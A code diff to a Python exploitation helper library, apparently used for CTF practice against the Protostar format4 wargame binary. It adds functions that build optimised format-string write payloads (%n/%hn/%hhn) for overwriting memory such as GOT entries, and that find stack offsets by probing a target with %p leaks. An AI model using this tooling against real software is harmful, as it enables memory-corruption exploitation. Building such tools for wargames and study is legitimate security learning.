@@ -3,46 +3,48 @@
 import sys
 from mypwn.mymath import *
 from mypwn.log import *
+from mypwn.mystring import badchar_warnings
 
 __all__ = [
     'pad',
     'fmt_four_bytes',
     'fmt_two_shorts',
     'fmt_x64',
+    'fmt_plan',
+    'fmt_find_offset',
   ]
 
 '''
-# to find function in GOT table
-objdump -TR /opt/protostar/bin/format4 |grep exit
-# to find symbol
-nm /opt/protostar/bin/format4 |grep target
+# to find function in GOT table, symbol (see mypwn.myelf)
+elf = ELF('/opt/protostar/bin/format4')
+elf.got['exit'], elf.symbols['target'], elf.plt['puts']
 # get exported function in libc
-nm -D --defined-only libc.so.6 |grep fgets
-readelf -s libc |grep fgets
-# search ROP gadgets
-gdb-peda$ asmsearch "pop ? ; ret"
+ELF('libc.so.6').symbols['fgets']
+# search ROP gadgets (see mypwn.myrop)
+Gadgets('libc.so.6').search('pop ?; ret')
 
 '''
 
-_warning_type = {
-  "\x00": "NULL byte detected !!!",
-  "\x0d": "CR byte detected !!!",
-  "\x0a": "LF byte detected !!!",
-  "\x20": "SPACE detected !!!",
-}
-
 def pad(s, size=1024):
   assert len(s) <= size
   return s + 'X'*(size - len(s))
 
 def _check_dangerous_chars(s):
-  for ch, warning in _warning_type.iteritems():
-    if ch in s:
-      log.warn(warning)
+  # bad bytes are mypwn.mystring.BADCHARS, rebind it to change the set
+  for warning in badchar_warnings(s):
+    log.warn(warning)
 
 _SIZE_FORMAT_CODE = '%%%dc'
 _WRITE_TWO_SHORTS_FMT = '%%%d$hn'
 _WRITE_FOUR_BYTES_FMT = '%%%d$hhn'
+_WRITE_INT_FMT = '%%%d$n'
+
+# bytes written by a directive -> its format
+_WRITE_FMT = {
+  1: _WRITE_FOUR_BYTES_FMT,
+  2: _WRITE_TWO_SHORTS_FMT,
+  4: _WRITE_INT_FMT,
+}
 
 def fmt_four_bytes(dst, pos, src, length = 0):
   """
@@ -205,6 +207,198 @@ def fmt_x64(dst, pos, src, length = 0):
   return payload
 
 
+def _schedule_writes(writes, start):
+  """
+  Returns (ordered, counts, end) for `writes', a list of (addr, value, nbytes).
+  Writes are taken greedily by the smallest printed-chars count that
+  reaches them from the current count, so the padding between two
+  consecutive writes is as small as possible.
+  """
+  todo = list(writes)
+  ordered, counts = [], []
+  cur = start
+  while todo:
+    best = None
+    for w in todo:
+      modulus = 1 << (8 * w[2])
+      count = cur + (w[1] - cur) % modulus
+      if best is None or count < best[0]:
+        best = (count, w)
+    count, w = best
+    todo.remove(w)
+    ordered.append(w)
+    counts.append(count)
+    cur = count
+  return ordered, counts, cur
+
+def _fmt_directives(ordered, counts, start, first_pos):
+  fmt = ''
+  cur = start
+  for i, (w, count) in enumerate(zip(ordered, counts)):
+    if count > cur:
+      fmt += _SIZE_FORMAT_CODE % (count - cur)
+    fmt += _WRITE_FMT[w[2]] % (first_pos + i)
+    cur = count
+  return fmt
+
+def _fmt_layout(writes, pos, length, arch):
+  """Returns (payload, output length) of `writes' laid out for `arch'."""
+  if arch == 'x86':
+    # [addr][addr]..[directives], the addresses are printed too
+    start = length + 4 * len(writes)
+    ordered, counts, end = _schedule_writes(writes, start)
+    payload = ''.join(p32(w[0]) for w in ordered)
+    payload += _fmt_directives(ordered, counts, start, pos)
+    return payload, end
+
+  # x64: [directives][A padding][addr][addr].., addresses hold NUL bytes so
+  # they must come last. Their stack position depends on the length of the
+  # directives, which depends on the position: iterate until it is stable.
+  ordered, counts, end = _schedule_writes(writes, length)
+  slots = 0
+  while True:
+    fmt = _fmt_directives(ordered, counts, length, pos + slots)
+    need = (len(fmt) + 7) // 8
+    if need <= slots:
+      break
+    slots = need
+  padding = 'A' * (8 * slots - len(fmt))
+  addrs = ''.join(p64(w[0]) for w in ordered)
+  # printf goes on printing the padding and the first address up to a NUL
+  printed = len(padding) + len(addrs.split('\x00', 1)[0])
+  return fmt + padding + addrs, end + printed
+
+def fmt_plan(writes, pos, length=0, arch='x86', size=None):
+  """
+  Returns (payload, output_length) writing every {address: value} of
+  `writes' with one format string, printing as few chars as possible.
+
+  Each value is first split into single bytes (%hhn). Neighbouring bytes
+  are then merged into %hn / %n writes whenever that does not make the
+  target print more, and the writes are ordered by the count they need so
+  the %Nc padding between them stays small.
+
+  Args:
+    writes (dict) -- {address: value}
+    pos    (int)  -- position on the stack of the start of the payload
+    length (int)  -- len of written chars before our format string in printf
+    arch   (str)  -- 'x86' (addresses first, like fmt_four_bytes) or
+                     'x64' (addresses last, like fmt_x64)
+    size   (int)  -- bytes written to every address, defaults to the word
+                     size of `arch'
+
+  Returns:
+    (str, int) The payload and the number of chars printf will print.
+
+  Example:
+    fmt_plan({0x08049794: 0xcafebabe, 0x08049798: 0x1}, pos=4)
+  """
+  if length < 0:
+    raise ValueError("length cannot < 0")
+  if arch not in ('x86', 'x64'):
+    raise ValueError("arch must be 'x86' or 'x64'")
+  if size is None:
+    size = 4 if arch == 'x86' else 8
+
+  # (addr, value, nbytes), one %hhn per byte to start with
+  chunks = []
+  for addr, value in sorted(writes.items()):
+    if value < 0 or value >> (8 * size):
+      raise ValueError("value 0x%x does not fit in %d bytes" % (value, size))
+    for i in xrange(size):
+      chunks.append((addr + i, (value >> (8 * i)) & 0xff, 1))
+
+  best = _fmt_layout(chunks, pos, length, arch)
+  merged = True
+  while merged:
+    merged = False
+    for width in (4, 2):
+      for i in xrange(len(chunks)):
+        # chunks[i:j] are contiguous and add up to `width' bytes
+        j, nbytes, value = i, 0, 0
+        while j < len(chunks) and nbytes < width and \
+            chunks[j][0] == chunks[i][0] + nbytes:
+          value |= chunks[j][1] << (8 * nbytes)
+          nbytes += chunks[j][2]
+          j += 1
+        if nbytes != width or j - i < 2:
+          continue
+        trial = chunks[:i] + [(chunks[i][0], value, width)] + chunks[j:]
+        result = _fmt_layout(trial, pos, length, arch)
+        if result[1] <= best[1]:
+          chunks, best, merged = trial, result, True
+          break
+      if merged:
+        break
+
+  _check_dangerous_chars(best[0])
+  return best
+
+
+def fmt_find_offset(send, max_pos=100, arch='x86', max_len=128, marker=None):
+  """
+  Returns (pos, length, padding) by probing the target, or None if the
+  payload is not found in the first `max_pos' stack positions: prefix the
+  payload with `padding' chars, then pass pos and length to
+  fmt_four_bytes() or fmt_plan().
+
+  Each probe is `padding' chars, `marker' then as many '%k$p' as fit in
+  `max_len' chars, so the stack is dumped with few round-trips. The
+  position whose leak equals the marker is `pos', and the number of chars
+  printed before the marker, padding included, is `length'. Paddings of
+  0 .. word size - 1 chars are tried in turn, for a buffer that does not
+  start on a word boundary.
+
+  Args:
+    send    (callable) -- send(payload) -> str, everything the target printed
+                          back for this payload. e.g. with a mysocket.Tube:
+                          lambda p: (t.sendline(p), t.recvline())[1]
+    max_pos (int)      -- last stack position to probe
+    arch    (str)      -- 'x86' or 'x64', sets the word size
+    max_len (int)      -- longest probe the target accepts
+    marker  (str)      -- one word of printable chars, 'AAAA' or 'AAAAAAAA'
+                          by default
+
+  Example:
+    pos, length, padding = fmt_find_offset(leak)
+    payload = 'X' * padding + fmt_plan({exit_got: win}, pos, length)[0]
+  """
+  word_size = 4 if arch == 'x86' else 8
+  if marker is None:
+    marker = 'A' * word_size
+  if len(marker) != word_size:
+    raise ValueError("marker must be %d chars" % word_size)
+  # %p prints the word as a number, the marker read as a little-endian word
+  expected = '0x%x' % sum(ord(c) << (8 * i) for (i, c) in enumerate(marker))
+  filler = [c for c in 'XYZ' if c not in marker][0]
+
+  for padding in xrange(word_size):
+    first = 1
+    while first <= max_pos:
+      probe = filler * padding + marker
+      last = first
+      while last <= max_pos:
+        directive = '|%%%d$p' % last
+        if len(probe) + len(directive) > max_len:
+          break
+        probe += directive
+        last += 1
+      if last == first:
+        raise ValueError("max_len is too small for a single probe")
+
+      response = send(probe)
+      length = response.find(marker + '|')
+      if length == -1:
+        return None
+      leaks = response[length + len(marker) + 1:].split('|')
+      for (i, leak) in enumerate(leaks[:last - first]):
+        if leak.startswith(expected) and \
+            not leak[len(expected):len(expected) + 1].isalnum():
+          return (first + i, length, padding)
+      first = last
+  return None
+
+
 def _main():
   target = 0x08049794
   position = 4